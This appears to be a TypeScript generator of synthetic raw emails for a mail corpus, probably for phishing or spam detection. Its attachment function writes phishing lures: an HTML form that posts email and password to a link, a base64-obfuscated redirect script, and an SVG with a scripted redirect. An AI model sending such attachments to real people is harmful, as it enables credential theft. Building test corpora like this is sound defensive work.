import { services } from '../further-mails/services.ts'
import { drawOf } from '../read-corpus.ts'
import { frames, toText } from './frames.ts'
import type { Journey } from './journey.ts'
import { receivers } from './receivers.ts'
import { senders } from './senders.ts'

const recipients = [
  'Ada Lovelace <ada.lovelace@example.org>',
  '<info@brightforge.example>',
  '"Okafor, M." <m.okafor@papertrail.example>',
  'Joana Prado <joana@example.net>',
  '<h.tanaka@kawabe-print.example>',
]

/** Fields of an entry that are no header. */
const ownFields = new Set(['Link', 'File', 'Envelope', 'Server', 'Auth'])

/**
 * Makes the raw mail that a receiving server would keep. An entry has a line `sender receiver frame encoding`, fields, an empty line and a
 * body; `{address}`, `{local}`, `{domain}`, `{base64}`, `{name}` stand for the recipient's, `{link}` for the field Link.
 */
export function buildRawMail(entry: string, id: string): string {
  const draw = (what: string) => drawOf(`${what} of ${id}`)
  const to = recipients[Math.floor(draw('recipient') * recipients.length)] ?? ''
  const filled = fill(entry, to)
  const end = filled.indexOf('\n\n')
  const [kinds = '', ...lines] = filled.slice(0, end).split('\n')
  const [sender = '', receiver = '', frame = '', encoding = ''] = kinds.split(' ')
  const fields = lines.map((line) => [line.slice(0, line.indexOf(':')), line.slice(line.indexOf(':') + 2)] as const)
  const values = new Map(fields)
  const from = values.get('From') ?? ''
  const domain = /@([^>\s]+)>?$/.exec(from)?.[1] ?? 'example.org'
  const journey: Journey = {
    domain,
    envelope: values.get('Envelope') ?? /<?([^\s<>]+@[^>\s]+)>?$/.exec(from)?.[1] ?? '',
    server: values.get('Server') ?? `mail.${domain}`,
    auth: values.get('Auth') ?? 'pass pass pass',
    to: /<([^>]+)>/.exec(to)?.[1] ?? '',
    time: new Date(
      Date.UTC(
        2019 + Math.floor(draw('year') * 7),
        Math.floor(draw('month') * 12),
        3,
        7,
        0,
        Math.floor(draw('time') * 2e6),
      ),
    ),
    draw,
  }
  const [send, receive] = [senders[sender] ?? services[sender]?.lines, receivers[receiver]]
  if (!send || !receive || !frames[frame]) throw new Error(`${id}: no such kinds as ${kinds}.`)
  const headers = [
    ...receive(journey),
    ...send(journey),
    ...fields.filter(([name]) => !ownFields.has(name)).map(([name, value]) => `${name}: ${encodeWords(value)}`),
    ...(values.has('To') || lines.some((line) => line === 'To:') ? [] : [`To: ${to}`]),
  ].filter((line) => line !== 'To: ' && line !== 'To:')
  const body = content(frame, encoding, filled.slice(end + 2).trim(), values, draw)
  return [...headers, ...body, ''].join('\n')
}

function fill(entry: string, to: string): string {
  const address = /<([^>]+)>/.exec(to)?.[1] ?? ''
  const [local = '', domain = ''] = address.split('@')
  const link = /^Link: (.*)$/m.exec(entry)?.[1] ?? ''
  return entry
    .replaceAll('{link}', link)
    .replaceAll('{address}', address)
    .replaceAll('{local}', local)
    .replaceAll('{domain}', domain)
    .replaceAll('{name}', /^"?([^"<]+)"? </.exec(to)?.[1] ?? local)
    .replaceAll('{base64}', Buffer.from(address).toString('base64'))
}

function encodeWords(value: string): string {
  if (/^[\x20-\x7e]*$/.test(value)) return value
  const [, name = value, address = ''] = /^(.*?)( <[^>]+>)?$/.exec(value) ?? []
  return `=?UTF-8?B?${Buffer.from(name).toString('base64')}?=${address}`
}

function content(
  frame: string,
  encoding: string,
  body: string,
  values: ReadonlyMap<string, string>,
  draw: Journey['draw'],
): string[] {
  const link = values.get('Link') ?? ''
  const framed = frames[frame]?.(body, link) ?? body
  const isPlain = frame === 'plain'
  const main =
    frame === 'table' || frame === 'gmail' || frame === 'word'
      ? draw('alternative') < 0.5
        ? multipart('alternative', draw, part('plain', encoding, toText(body)), part('html', encoding, framed))
        : part('html', encoding, framed)
      : part(isPlain ? 'plain' : 'html', encoding, framed)
  const file = values.get('File')
  return ['MIME-Version: 1.0', ...(file ? multipart('mixed', draw, main, attachment(file, link)) : main)]
}

function part(kind: string, encoding: string, text: string): string[] {
  const bytes = Buffer.from(text)
  const [name, lines] =
    encoding === 'base64'
      ? ['base64', bytes.toString('base64').replaceAll(/.{76}/g, '$&\n')]
      : encoding === 'quoted'
        ? ['quoted-printable', toQuoted(bytes)]
        : ['8bit', bytes.toString('latin1')]
  return [`Content-Type: text/${kind}; charset="UTF-8"`, `Content-Transfer-Encoding: ${name}`, '', lines]
}

function toQuoted(bytes: Buffer): string {
  const lines = bytes.toString('latin1').split('\n')
  return lines
    .map((line) => {
      const units = [...line].map((letter) =>
        /[\x20-\x3c\x3e-\x7e]/.test(letter)
          ? letter
          : `=${letter.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`,
      )
      let [out, width] = ['', 0]
      for (const unit of units) {
        if (width + unit.length > 75) [out, width] = [`${out}=\n`, 0]
        out += unit
        width += unit.length
      }
      return out
    })
    .join('\n')
}

function multipart(kind: string, draw: Journey['draw'], ...parts: string[][]): string[] {
  const mark = Math.floor(draw(kind) * 1e12).toString(36)
  const boundary = [`----=_NextPart_000_${mark}`, `--_${mark}_mimepart`, `b1_${mark}${mark}`][mark.length % 3] ?? mark
  return [
    `Content-Type: multipart/${kind}; boundary="${boundary}"`,
    '',
    ...parts.flatMap((lines) => [`--${boundary}`, ...lines, '']),
    `--${boundary}--`,
  ]
}

function attachment(file: string, link: string): string[] {
  const types: Readonly<Record<string, [type: string, content: string]>> = {
    html: [
      'text/html',
      `<html><body><form method="post" action="${link}"><input name="e"><input type="password" name="p"></form></body></html>`,
    ],
    htm: ['text/html', `<script>var a="${Buffer.from(link).toString('base64')}";document.location=atob(a)</script>`],
    pdf: ['application/pdf', '%PDF-1.5\n1 0 obj<</Type/Catalog>>endobj'],
    zip: ['application/zip', 'PK\u0003\u0004'],
    ics: ['text/calendar; method=REQUEST', 'BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nEND:VEVENT\nEND:VCALENDAR'],
    png: ['image/png', '\u0089PNG\r\n'],
    svg: ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>location="${link}"</script></svg>`],
    docx: ['application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'PK\u0003\u0004'],
  }
  const [type, text] = types[file.slice(file.lastIndexOf('.') + 1)] ?? ['application/octet-stream', '']
  return [
    `Content-Type: ${type}; name="${file}"`,
    `Content-Disposition: attachment; filename="${file}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(text).toString('base64').replaceAll(/.{76}/g, '$&\n'),
  ]
}
